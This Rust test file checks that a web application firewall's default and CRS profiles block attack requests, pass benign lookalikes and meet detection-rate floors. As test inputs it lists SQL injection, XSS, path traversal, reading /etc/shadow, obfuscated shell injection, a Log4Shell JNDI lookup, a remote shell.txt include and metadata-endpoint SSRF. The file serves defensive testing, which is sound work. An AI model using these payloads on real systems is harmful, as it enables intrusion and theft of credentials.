//! The built-in default profile and the CRS profile, end to end.
//!
//! `default_profile_dataset_rates` replays the team's dev corpus
//! (`../shared/datasets/dev.jsonl`) and fails when the default profile blocks under 94.7 % of
//! its attacks (or a class under its floor) or over 0.2 % of its benign requests, so a rule
//! change that regresses either fails CI. The full per-request output is written to
//! `$CARGO_TARGET_TMPDIR/default-dev.replay` for inspection.

use std::path::{Path, PathBuf};
use std::time::SystemTime;

use waf_core::{ConnectionInfo, EngineMode, RequestHead, Verdict, Waf};
use waf_proxy::profile::{self, DEFAULT_RULES};
use waf_proxy::replay::{self, ReplaySummary};

/// Extra request headers of a test case.
type Headers<'a> = &'a [(&'a str, &'a str)];

fn shared() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared")
}

fn dataset() -> PathBuf {
    shared().join("datasets/dev.jsonl")
}

/// Runs a GET with `uri` and extra `headers` through phases 1 and 2; the blocking rule id.
fn check(waf: &Waf, uri: &str, headers: &[(&str, &str)], body: &str) -> Option<u64> {
    let conn = ConnectionInfo::new(
        "192.0.2.1:40000".parse().unwrap(),
        "127.0.0.1:80".parse().unwrap(),
    );
    let mut tx = waf.transaction(&conn, SystemTime::UNIX_EPOCH);
    let mut hs: Vec<(&[u8], &[u8])> = vec![(b"Host", b"example.com")];
    hs.extend(headers.iter().map(|(n, v)| (n.as_bytes(), v.as_bytes())));
    let method: &[u8] = if body.is_empty() { b"GET" } else { b"POST" };
    let head = RequestHead::new(method, uri.as_bytes(), b"HTTP/1.1", &hs);
    let mut v = tx.request_headers(&head);
    if v == Verdict::Continue && tx.wants_request_body() {
        v = tx.request_body(body.as_bytes());
    }
    if v == Verdict::Continue {
        v = tx.request_end();
    }
    v.intervention().map(|i| i.rule_id)
}

fn print_rates(name: &str, s: &ReplaySummary) {
    println!("{name}: {} requests, {} blocked", s.requests, s.blocked);
    for (class, c) in &s.classes {
        println!(
            "  {class:<15} {:>5} {:>5} {:>7.2}%",
            c.total,
            c.blocked,
            100.0 * c.rate()
        );
    }
    println!(
        "  detection {:.2}%  false positives {:.2}%",
        100.0 * s.detection_rate(),
        100.0 * s.false_positive_rate()
    );
}

#[test]
fn default_rules_compile_with_ids_in_range_and_metadata() {
    let waf = profile::default_waf(EngineMode::On).unwrap();
    assert!(waf.warnings().is_empty(), "{:?}", waf.warnings());
    assert_eq!(waf.engine_mode(), EngineMode::On);
    // Every rule id of the profile lies in 100000..=199999, and every logging detection
    // rule has a msg, a tag and a severity.
    let mut ids = 0;
    for line in DEFAULT_RULES.lines() {
        let Some(start) = line.find("\"id:") else {
            continue;
        };
        let id: u64 = line[start + 4..]
            .split(|c: char| !c.is_ascii_digit())
            .next()
            .unwrap()
            .parse()
            .unwrap();
        assert!(
            (100_000..=199_999).contains(&id),
            "rule id {id} out of range"
        );
        if !line.contains("nolog") {
            for what in ["msg:", "tag:", "severity:"] {
                assert!(line.contains(what), "rule {id} has no {what}");
            }
        }
        ids += 1;
    }
    assert!(ids >= 20, "only {ids} rules");
}

#[test]
fn default_profile_blocks_each_family_and_passes_plain_requests() {
    let waf = profile::default_waf(EngineMode::On).unwrap();
    let form = [("Content-Type", "application/x-www-form-urlencoded")];
    let json = [("Content-Type", "application/json")];
    let xml = [("Content-Type", "application/xml")];
    let blocked: &[(&str, Headers, &str, u64)] = &[
        ("/?id=1%27%20or%20%271%27%3D%271", &[], "", 199002),
        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", &[], "", 199002),
        ("/?file=../../../../etc/passwd", &[], "", 199002),
        ("/?page=php://filter/resource=index", &[], "", 199002),
        ("/?cmd=x%3Bcat%20/etc/shadow", &[], "", 199002),
        (
            "/?u=http://169.254.169.254/latest/meta-data/",
            &[],
            "",
            199002,
        ),
        ("/?inc=http://203.0.113.7/shell.txt?", &[], "", 199002),
        (
            "/",
            &[("X-Api-Version", "${jndi:ldap://x.example/a}")],
            "",
            199001,
        ),
        ("/?t=%7B%7B7*7%7D%7D", &[], "", 199002),
        ("/?user=*)(uid=*))(|(uid=*", &[], "", 199002),
        ("/", &[("User-Agent", "sqlmap/1.7")], "", 199001),
        (
            "/",
            &[("Content-Length", "4"), ("Transfer-Encoding", "chunked")],
            "",
            199001,
        ),
        ("/", &form, "a=1%0d%0aSet-Cookie:%20x=1", 199002),
        ("/login", &json, r#"{"user":{"$ne":null}}"#, 199002),
        (
            "/",
            &xml,
            r#"<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>"#,
            199002,
        ),
        ("/", &json, "{not json", 100010),
        // A "document" (blank line, code fence) lowers single signals but never hides an
        // injection: libinjection and the quote rule still add up in one.
        (
            "/",
            &form,
            "comment=x%27%20or%20%271%27%3D%271%0A%0Ahello",
            199002,
        ),
        (
            "/",
            &form,
            "comment=%60%60%60%0Aa%3B%20cat%20%2Fetc%2Fpasswd%0A%60%60%60",
            199002,
        ),
    ];
    for (uri, headers, body, rule) in blocked {
        assert_eq!(
            check(&waf, uri, headers, body),
            Some(*rule),
            "{uri} {headers:?} {body}"
        );
    }
    let passed: &[(&str, Headers, &str)] = &[
        ("/", &[], ""),
        ("/search?q=O%27Brien%20and%20sons", &[], ""),
        ("/docs?path=guide/intro.html", &[], ""),
        ("/", &form, "name=Ann&comment=Tom+%26+Jerry%3B+great+show"),
        ("/api", &json, r#"{"name":"x","tags":["a","b"],"n":1}"#),
        (
            "/rss",
            &xml,
            "<rss><channel><title>t</title></channel></rss>",
        ),
    ];
    for (uri, headers, body) in passed {
        assert_eq!(check(&waf, uri, headers, body), None, "{uri} {body}");
    }
}

/// The SQL, LDAP and shell grammar shapes (190163-190164, 190167-190171, 190310, 170140, 170180, 170182-170185), on
/// requests written for this test: each attack shape is blocked by the rule meant for it,
/// and the benign twins that share its words (a search for SQL keywords, a spreadsheet
/// formula, a shell pipe in a search box, prose after a semicolon, French elisions, a
/// command line typed into a docs search) pass.
#[test]
fn default_profile_reads_sql_and_shell_grammar() {
    let waf = profile::default_waf(EngineMode::On).unwrap();
    let blocked: &[(&str, u64)] = &[
        ("/p?id=5%20AND%204821%3D(", 190163),
        ("/p?n=7%20or%20(9%3E%3D3)%20--", 190163),
        ("/p?col=substring(%27abc%27", 190170),
        ("/p?fn=ifnull(", 190170),
        ("/p?sort=name&dir=asc%27%20having%20", 190164),
        ("/p?t=abc%60%3E1", 190164),
        ("/p?v=%27red%27%3C%3E%27blue", 190164),
        ("/p?f=order%20by%20(select", 190170),
        ("/ping?host=example.org%3Bhtop", 170180),
        ("/ping?host=a%26%26visudo", 170180),
        ("/ping?host=x%7Cnmap%20-sV%20localhost", 170180),
        ("/ping?host=1.2.3.4%3B%20cd%20/tmp", 170180),
        ("/p?%3C%3E=1", 190168),
        ("/p?x=a)%20like%20(b", 190167),
        ("/p?x=length(name)::int", 190167),
        ("/p?x=5%3B%20declare%20%40v%20int", 190169),
        ("/p?sort%253D%253Bdrop%2Btable%2Bt=1", 190171),
        ("/p?id=7%27", 190170),
        ("/p?ids=in%20(3%2C5%2C8)", 190170),
        ("/p?f=where%20price%20%3E%3D%20(", 190170),
        ("/users?username=jsmith*", 190310),
        ("/users/jsmith*", 190310),
        ("/run?x=c%27%27url%20example.org", 170182),
        ("/run?x=%22w%22get%20localhost", 170184),
        ("/run?x=usr/bin/nmap", 170183),
        (
            "/p?q=CASE%20WHEN%201%3D1%20THEN%201%20ELSE%200%20END",
            190170,
        ),
        (
            "/p?q=values%20%281%2C%20%27admin%27%2C%20%27x%27%29",
            190170,
        ),
        ("/p?q=or%201%3D1--", 190170),
        ("/p?q=%27", 190170),
        ("/p?q=abc%20AND%203%2B4%3D7", 190170),
        ("/p?q=exec%28%40cmd%29", 190169),
        ("/p?f=lo_get(4242)", 190170),
        ("/p?f=pg_read_file(%27pg_hba.conf%27)", 190170),
        (
            "/p?q=%E2%80%99%20or%20%E2%80%99a%E2%80%99%3D%E2%80%99a",
            190169,
        ),
        ("/p?q=cat%24u%20%2Fetc%2Fhosts", 170185),
        ("/p?q=w%24%40ho%24%40ami%20-a", 170185),
        (
            "/p?q=1.1.1.1%3Bca%24%28%29t%20%2Fe%24%28%29tc%2Fpas%24%28%29swd",
            170185,
        ),
        ("/p?q=x%7Ctr%20a%20b%20%7C%20sh%20%23", 170185),
        ("/p?q=dir%20c%3A%5C%20%7C", 170140),
        ("/p?q=v%3Dw%3Bc%24v%20-h", 170183),
    ];
    for (uri, rule) in blocked {
        let req = replay::ReplayRequest {
            method: b"GET".to_vec(),
            uri: uri.as_bytes().to_vec(),
            version: b"HTTP/1.1".to_vec(),
            headers: vec![(b"Host".to_vec(), b"example.com".to_vec())],
            body: Vec::new(),
        };
        let seen = replay::inspect(&waf, &req);
        assert_eq!(seen.blocked, Some(403), "{uri} {seen:?}");
        assert!(
            seen.rule_ids.contains(rule),
            "{uri}: {rule} not in {seen:?}"
        );
    }
    let passed = [
        "/search?q=python%20%7C%20grep",
        "/search?q=delete%20from%20where%20exists",
        "/search?q=order%20by%20date",
        "/search?q=1%3D1",
        "/search?q=%22Where%20the%20Crawdads%20Sing%22",
        "/search?q=how%20to%20use%20substring%20in%20sql",
        "/search?q=pip%20install%20requests",
        "/search?q=O%27Neil%20or%20O%27Brien",
        "/shop?name=Rock%27n%27Roll%20Diner",
        "/notes?text=We%20meet%20at%20noon%3B%20at%20least%20try",
        "/faq?q=Tom%20%26%20Jerry%3B%20top%20cartoons",
        "/sheet?cell=%3DROUND(A1%2C%202)",
        "/sheet?cell=%3DSUM(1%2C2%2C3)",
        "/search?q=shoe*",
        "/login?password=Secret*",
        "/p?x=don%27%27t",
        "/p?q=time%3B%20date%20night%20ideas",
        "/p?q=rm%20-rf%20explained",
        "/p?file=bin/setup",
        "/p?q=where%20to%20eat",
        "/p?q=in%20(brackets)",
        "/search?q=version%20%282.1%29",
        "/search?q=length%20%28cm%29",
        "/search?q=Where%27s%20my%20order%3F",
        "/search?q=x%20%3E%3D%205%20and%20y%20%3C%3D%2010",
        "/search?q=I%27m%206%27%20tall",
        "/search?q=d%27Artagnan",
        "/search?q=count%28%2A%29%20vs%20count%281%29",
        "/search?q=AT%26T%3B%20Verizon",
        "/search?q=L%27or%20du%20Rhin",
        "/search?q=l%27union%20europ%C3%A9enne",
        "/search?q=Ballon%20d%27Or%202024",
        "/search?q=Help%3B%20python%20won%27t%20start",
        "/search?q=tee%20time%3B%20golf%20at%209",
        "/search?q=where%20people%20in%20london%20live",
        "/search?q=curl%20-X%20POST",
        "/search?q=python%20-m%20venv",
        "/search?q=docker%20run%20-it%20ubuntu",
        "/search?q=Notes%3A%20see%20page%203%3B%20node%20modules%20are%20big",
        "/search?q=it%27s%206%20o%27clock%3B%20time%20to%20go",
        "/search?q=case%20when%20you%20need%20it",
        "/search?q=Case%20when%20the%20boat%20sank%20then%20what%20happened%20in%20the%20end",
        "/search?q=values%20%28family%2C%20honesty%29",
        "/search?q=Values%20%282024%20edition%29",
        "/search?q=and%205%20more",
        "/search?q=or%20best%20offer",
        "/search?q=%27quoted%27",
        "/search?q=2%2B2%3D4%20and%203%2B3%3D6",
        "/search?q=is%201%2B1%3D2%20or%203",
        "/search?q=executive%20%28%40acme%29",
        "/search?q=python%3A%20cursor.execute%28%40q%29",
        "/search?q=It%E2%80%99s%20the%20%E2%80%9990s%20or%20%E2%80%9980s",
        "/search?q=price%20C%2410%20-%20sale",
        "/search?q=Ke%24ha%20-tik%20tok",
        "/search?q=A%24AP%20Rocky%20%2Fr%2Fhiphop",
        "/search?q=echo%20%24HOME%20-n",
        "/search?q=rock%20%7C%20sh%20%23%20comments",
        "/search?q=color%3Dred%3B%20font%3D%24body",
        "/search?q=x%3D1%3B%20y%3D2%3B%20total%20%24x",
        "/search?q=price%3D5%3B%20US%245%20each",
        "/search?q=how%20lo_import%20works",
        "/search?q=lo_import%20(large%20objects)",
    ];
    for uri in passed {
        assert_eq!(check(&waf, uri, &[], ""), None, "{uri}");
    }
}

/// Rule 190180 (`@detectSqlFragment`): a value that reads as a SQL query cut open at the
/// left (a continuation keyword, a comparison, `)`, `,` or `;`, perhaps after a literal or
/// a closed quote, typographic quotes included), cut at the right by a bare comment, broken
/// out of a comment, or comparing a literal with itself; searches of SQL words, prose,
/// code and whole statements pass.
#[test]
fn default_profile_reads_cut_sql_fragments() {
    let waf = profile::default_waf(EngineMode::On).unwrap();
    let blocked = [
        "/p?q=xor%20%27k%27%20%3C",
        "/p?q=)%20when%207%20then",
        "/p?q=except%20values(3%2C4)",
        "/p?q=%27%20notnull%20%23",
        "/p?q=truncate%20logs%3B%23",
        "/p?q=c%2C4%3D4",
        "/p?q=nick%3A%3Aint",
        "/p?q=x*%2F%20union%20select%201",
        "/p?q=1%C2%B4%20or%20%C2%B42%C2%B4%3D%C2%B42",
        "/p?q=9)%20intersect%20(select%202",
        "/p?q=in%20(4%2C2)",
        "/items/or%20%27%7B%7D%27%20-%3E%20%27%24.k%27%20%3D%203",
        "/p?q=from%20log_2024%20where%20id_x%3D%22a%22%3B",
        "/p?q=abc%27%20or%20%27x%27%3D%27y%27%23%3B--",
    ];
    for uri in blocked {
        let req = replay::ReplayRequest {
            method: b"GET".to_vec(),
            uri: uri.as_bytes().to_vec(),
            version: b"HTTP/1.1".to_vec(),
            headers: vec![(b"Host".to_vec(), b"example.com".to_vec())],
            body: Vec::new(),
        };
        let seen = replay::inspect(&waf, &req);
        assert_eq!(seen.blocked, Some(403), "{uri} {seen:?}");
        assert!(
            seen.rule_ids.contains(&190180),
            "{uri}: 190180 not in {seen:?}"
        );
    }
    let passed = [
        "/search?q=limit%20offset%20pagination",
        "/search?q=having%20vs%20where",
        "/search?q=is%20null%20sql",
        "/search?q=not%20like%20operator",
        "/search?q=fix%20typo%20in%20%27union%27%20label",
        "/search?q=what%20is%20--force",
        "/search?q=std%3A%3Astring",
        "/search?q=into%2Flong",
        "/search?q=1%3D1%20meaning",
        "/search?q=just%20in%20case%20(abc)",
        "/search?q=it%E2%80%99s%20in%20the%20box%2C%20or%20so",
        "/search?q=end%20of%20the%20block%20*%2F",
        "/search?q=order%20%2345699",
        "/search?q=and%207%20oranges",
        "/search?q=%22wood%22%20and%20%22sign%22",
        "/search?q=in%20stock%20(3)%20or%20more",
        "/notes?text=forgive%20and%20forget.%0A%09--%20cervantes",
        "/docs/is%20null%20vs%20not%20null",
        "/blog/where-is-the-end",
        "/search?q=C%23%3B%20F%23%20and%20Rust",
        "/search?q=user_id%20and%20order_id",
        "/search?q=windows10%20or%20macos11%20is%20fine",
        "/search?q=e.g.%20or%20so",
        "/p?state=active%3Dtrue",
        "/p?view=tab%3Dall",
    ];
    for uri in passed {
        assert_eq!(check(&waf, uri, &[], ""), None, "{uri}");
    }
    // A JSON key is named after its path (`json.in (5,6)`); the key itself is read.
    let json = [("Content-Type", "application/json")];
    for body in [r#"{"in (5,6)": 1}"#, r#"{"a": {"; drop": "x"}}"#] {
        let req = replay::ReplayRequest {
            method: b"POST".to_vec(),
            uri: b"/api".to_vec(),
            version: b"HTTP/1.1".to_vec(),
            headers: vec![
                (b"Host".to_vec(), b"example.com".to_vec()),
                (b"Content-Type".to_vec(), b"application/json".to_vec()),
            ],
            body: body.as_bytes().to_vec(),
        };
        let seen = replay::inspect(&waf, &req);
        assert_eq!(seen.blocked, Some(403), "{body} {seen:?}");
        assert!(
            seen.rule_ids.contains(&190180),
            "{body}: 190180 not in {seen:?}"
        );
    }
    for body in [
        r#"{"order": "asc", "in_stock": true, "is_active": null}"#,
        r#"{"filter": {"in": [1, 2]}, "or": "best offer"}"#,
    ] {
        assert_eq!(check(&waf, "/api", &json, body), None, "{body}");
    }
}

/// Headers with a grammar (a language list, an origin, an address list, a URL, base64, a
/// token) that carry a payload are refused by the rule for that header; the shapes browsers,
/// apps and proxies really send pass.
#[test]
fn default_profile_reads_header_grammar() {
    let waf = profile::default_waf(EngineMode::On).unwrap();
    let blocked: &[(&str, &str, u64)] = &[
        ("Accept-Language", "en-US' or 1=1--", 110300),
        ("Origin", "https://a.example'><svg/onload=x>", 110301),
        (
            "X-Forwarded-For",
            "1.2.3.4'; waitfor delay '0:0:5'--",
            110302,
        ),
        ("X-Client-Data", "<script>x</script>", 110303),
        ("Referer", "';cat /etc/hosts", 110304),
        ("X-Request-ID", "$(id)", 110305),
    ];
    for (name, value, rule) in blocked {
        let req = replay::ReplayRequest {
            method: b"GET".to_vec(),
            uri: b"/".to_vec(),
            version: b"HTTP/1.1".to_vec(),
            headers: vec![
                (b"Host".to_vec(), b"example.com".to_vec()),
                (name.as_bytes().to_vec(), value.as_bytes().to_vec()),
            ],
            body: Vec::new(),
        };
        let seen = replay::inspect(&waf, &req);
        assert_eq!(seen.blocked, Some(403), "{name}: {value} {seen:?}");
        assert!(
            seen.rule_ids.contains(rule),
            "{name}: {value}: {rule} not in {seen:?}"
        );
    }
    let passed: &[(&str, &str)] = &[
        ("Accept-Language", "en-US,en;q=0.9"),
        ("Accept-Language", "de-CH, de;q=0.8, *;q=0.5"),
        ("Accept-Language", "en_US"),
        ("Origin", "null"),
        ("Origin", "https://app.example.com:8443"),
        ("Referer", "android-app://com.google.android.gm/"),
        ("Referer", "https://example.com/search?q=o'neil&x=(1)"),
        ("X-Forwarded-For", "203.0.113.7, [2001:db8::1]"),
        ("X-Forwarded-For", "unknown, 10.0.0.1"),
        ("X-Request-ID", "5f0c6d2e-8a1b-4c3d-9e7f-0a1b2c3d4e5f"),
        ("X-Client-Data", "CIa2yQEIpLbJAQjBtskBCKmdygE="),
    ];
    for (name, value) in passed {
        assert_eq!(
            check(&waf, "/", &[(name, value)], ""),
            None,
            "{name}: {value}"
        );
    }
}

#[test]
fn default_profile_detection_only_never_blocks() {
    let req = replay::parse_raw_http(
        b"GET /?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: example.com\r\n\r\n",
    )
    .unwrap();
    let on = profile::default_waf(EngineMode::On).unwrap();
    assert_eq!(replay::inspect(&on, &req).blocked, Some(403));

    // Detection only: the same rules match and are reported, nothing is blocked.
    let waf = profile::default_waf(EngineMode::DetectionOnly).unwrap();
    assert_eq!(waf.engine_mode(), EngineMode::DetectionOnly);
    let seen = replay::inspect(&waf, &req);
    assert_eq!(seen.blocked, None);
    assert!(seen.rule_ids.contains(&195110), "{seen:?}");

    // Off: no rule runs.
    let off = profile::default_waf(EngineMode::Off).unwrap();
    assert_eq!(off.engine_mode(), EngineMode::Off);
    let seen = replay::inspect(&off, &req);
    assert_eq!(seen.blocked, None);
    assert!(seen.rule_ids.is_empty(), "{seen:?}");
}

#[test]
fn default_profile_dataset_rates() {
    let out_path = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("default-dev.replay");
    let mut out = std::fs::File::create(&out_path).unwrap();
    let opts = replay::ReplayOptions {
        files: vec![dataset()],
        ..Default::default()
    };
    let start = std::time::Instant::now();
    let s = replay::run(&opts, &mut out).unwrap();
    println!(
        "replayed in {:?} (rule compilation included)",
        start.elapsed()
    );
    print_rates("default profile", &s);
    println!("per-request output: {}", out_path.display());
    assert_eq!(s.errors, 0);
    assert!(s.attacks.total > 8000 && s.benign.total > 7000, "{s:?}");
    assert!(
        s.detection_rate() >= 0.947,
        "detection {:.4} < 0.947",
        s.detection_rate()
    );
    assert!(
        s.false_positive_rate() <= 0.002,
        "false positives {:.4} > 0.002",
        s.false_positive_rate()
    );
    // Each class with 50 or more attacks, at its measured rate rounded down (the closing
    // note of issue 13 has the per-class table and what the two under 93 % miss).
    let floors: &[(&str, f64)] = &[
        ("sqli", 0.93),
        ("xss", 0.956),
        ("cmdi", 0.934),
        ("path_traversal", 0.935),
        ("lfi", 0.95),
        ("ssrf", 0.995),
        ("ssti", 0.96),
        ("scanner", 0.965),
        ("log4shell", 0.995),
        ("rfi", 0.955),
        ("protocol", 0.945),
        ("nosqli", 0.99),
        ("xxe", 1.0),
        ("ldapi", 0.965),
    ];
    for (class, floor) in floors {
        let c = &s.classes[*class];
        assert!(
            c.rate() >= *floor,
            "{class}: {:.4} < {floor} ({} of {})",
            c.rate(),
            c.blocked,
            c.total
        );
    }
}

#[test]
fn crs_waf_builds_at_each_paranoia_level_and_blocks() {
    let crs = shared().join("crs");
    for pl in [0, 2, 9] {
        let waf = profile::crs_waf(&crs, pl, EngineMode::On).unwrap();
        assert!(waf.rule_count() > 300);
        assert_eq!(
            check(&waf, "/?q=%3Cscript%3Ealert(1)%3C/script%3E", &[], ""),
            Some(949110),
            "paranoia {pl}"
        );
    }
    let waf = profile::crs_waf(&crs, 1, EngineMode::DetectionOnly).unwrap();
    assert_eq!(waf.engine_mode(), EngineMode::DetectionOnly);
    assert_eq!(
        check(&waf, "/?q=%3Cscript%3Ealert(1)%3C/script%3E", &[], ""),
        None
    );
}

#[test]
fn crs_waf_missing_directory_is_an_error() {
    let err = profile::crs_waf(Path::new("/nonexistent/crs"), 1, EngineMode::On).unwrap_err();
    assert_eq!(err.kind(), waf_core::ErrorKind::Io);
}

/// CRS PL1 over the dev corpus, for comparison with the default profile. Slow (CRS runs
/// hundreds of rules per request): `cargo test -p waf-proxy --release --test profile --
/// --ignored --nocapture`.
#[test]
#[ignore]
fn crs_pl1_dataset_rates() {
    let out_path = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("crs-pl1-dev.replay");
    let mut out = std::fs::File::create(&out_path).unwrap();
    let opts = replay::ReplayOptions {
        crs: Some(shared().join("crs")),
        files: vec![dataset()],
        ..Default::default()
    };
    let start = std::time::Instant::now();
    let s = replay::run(&opts, &mut out).unwrap();
    println!(
        "replayed in {:?} (rule compilation included)",
        start.elapsed()
    );
    print_rates("CRS PL1", &s);
    println!("per-request output: {}", out_path.display());
    assert_eq!(s.errors, 0);
}

/// Harmless text that looks like attacks (SQL words, shell commands in docs, templates,
/// relative paths, rich-text HTML), written for this test: none of it may be blocked.
#[test]
fn default_profile_passes_fp_bait() {
    let mut out = Vec::new();
    let opts = replay::ReplayOptions {
        files: vec![Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/fp-bait.jsonl")],
        ..Default::default()
    };
    let s = replay::run(&opts, &mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    assert_eq!(s.benign.total, 37);
    assert_eq!(s.blocked, 0, "{text}");
}

/// Textbook attacks of every family the profile covers, written for this test (one per
/// line in `tests/fixtures/attacks.jsonl`): every one must be blocked.
#[test]
fn default_profile_blocks_textbook_attacks() {
    let mut out = Vec::new();
    let opts = replay::ReplayOptions {
        files: vec![Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/attacks.jsonl")],
        ..Default::default()
    };
    let s = replay::run(&opts, &mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    assert_eq!(s.attacks.total, 39);
    assert_eq!(s.attacks.blocked, 39, "{text}");
}

fn real_traffic() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/realtraffic/realtraffic.jsonl")
}

/// The benign real-traffic suite (`tests/fixtures/realtraffic/`, written by
/// `gen.py`): 2,400 requests of the kinds real sites receive (analytics beacons, consent and
/// A/B tools, OAuth/OIDC/SAML, SPA JSON, GraphQL, rich text, code in forum posts, searches
/// full of SQL words, uploads, webhooks, CDN image URLs, non-English text). Prints the block
/// rate per family; fails on any block.
#[test]
fn default_profile_passes_real_traffic() {
    let waf = profile::default_waf(EngineMode::On).unwrap();
    let mut out = Vec::new();
    let s = replay::run_with(&waf, &[real_traffic()], &mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    let mut families: std::collections::BTreeMap<&str, (usize, usize)> = Default::default();
    let mut blocked = Vec::new();
    for line in text.lines().filter(|l| l.starts_with("rt-")) {
        let mut cols = line.split('\t');
        let id = cols.next().unwrap();
        let verdict = cols.next().unwrap();
        let family = id[3..].rsplit_once('-').unwrap().0;
        let e = families.entry(family).or_default();
        e.0 += 1;
        if verdict != "pass" {
            e.1 += 1;
            blocked.push(line);
        }
    }
    println!(
        "real-traffic suite, default profile: {} requests",
        s.requests
    );
    for (family, (total, b)) in &families {
        println!(
            "  {family:<15} {total:>5} {b:>5} {:>7.2}%",
            100.0 * *b as f64 / *total as f64
        );
    }
    assert_eq!(s.errors, 0, "{text}");
    assert!(s.benign.total >= 2000, "{}", s.benign.total);
    assert_eq!(families.len(), 12, "{families:?}");
    assert!(families.values().all(|(t, _)| *t >= 150), "{families:?}");
    assert!(
        blocked.is_empty(),
        "{} blocked:\n{}",
        blocked.len(),
        blocked.join("\n")
    );
}

/// The committed suite is what the committed generator writes (so neither drifts).
#[test]
fn real_traffic_suite_matches_its_generator() {
    let gen = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/realtraffic/gen.py");
    let out = std::process::Command::new("python3")
        .arg(&gen)
        .output()
        .expect("python3 is needed to check tests/fixtures/realtraffic/gen.py");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let committed = std::fs::read(real_traffic()).unwrap();
    assert!(
        out.stdout == committed,
        "realtraffic.jsonl is stale: regenerate it with python3 {}",
        gen.display()
    );
}
